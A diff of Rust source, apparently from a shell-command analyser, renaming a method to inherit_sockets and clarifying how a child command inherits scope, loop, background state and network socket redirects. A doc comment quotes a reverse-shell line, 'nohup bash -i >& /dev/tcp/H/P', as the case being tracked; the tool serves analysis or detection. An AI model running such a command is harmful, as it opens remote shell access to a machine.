@@ -154,28 +154,31 @@ impl Frame<'_> {
         }
     }
 
-    /// Returns the context of a command that `made` runs: `made` is the last of the commands that run it.
+    /// Returns the context of a command that `made` runs: that of `made`, which becomes the last entry of `via`, with its
+    /// input and with what `inner` adds. Of the two scopes the farther one holds, since a command of a container stays in
+    /// it.
     fn nested_context(&self, made: &ExpandedCommand<'_>, inner: &NestedCommand) -> WalkContext {
-        let mut setting = self.context.clone();
-        setting.via.push(made.id);
-        setting.doubt = setting.doubt.or_else(|| inner.doubt.clone());
-        setting.scope = inner.setting.scope.map_or(setting.scope, |scope| scope.max(setting.scope));
-        setting.in_loop |= inner.setting.repeats;
-        setting.in_background |= inner.setting.in_background;
-        setting.input = Rc::clone(&made.input);
-        if setting.scope == self.context.scope {
-            self.keep_connections(made, &mut setting);
+        let mut context = self.context.clone();
+        context.via.push(made.id);
+        context.doubt = context.doubt.or_else(|| inner.doubt.clone());
+        context.scope = inner.setting.scope.map_or(context.scope, |scope| scope.max(context.scope));
+        context.in_loop |= inner.setting.repeats;
+        context.in_background |= inner.setting.in_background;
+        context.input = Rc::clone(&made.input);
+        // A child in another container or on another machine inherits no open files.
+        if context.scope == self.context.scope {
+            self.inherit_sockets(made, &mut context);
         }
-        setting
+        context
     }
 
     /// Adds the network connections of a command to the context of its child, which inherits them:
     /// `nohup bash -i >& /dev/tcp/H/P`.
-    fn keep_connections(&self, made: &ExpandedCommand<'_>, setting: &mut WalkContext) {
+    fn inherit_sockets(&self, made: &ExpandedCommand<'_>, context: &mut WalkContext) {
         let Some(command) = self.interpreter.commands.get(made.id.0) else { return };
         for redirect in command.redirects.iter().filter(|redirect| redirect.target.socket().is_some()) {
-            if !setting.redirects.iter().any(|(known, _)| known == redirect) {
-                Rc::make_mut(&mut setting.redirects).push((redirect.clone(), self.state.cwd.clone()));
+            if !context.redirects.iter().any(|(known, _)| known == redirect) {
+                Rc::make_mut(&mut context.redirects).push((redirect.clone(), self.state.cwd.clone()));
             }
         }
     }
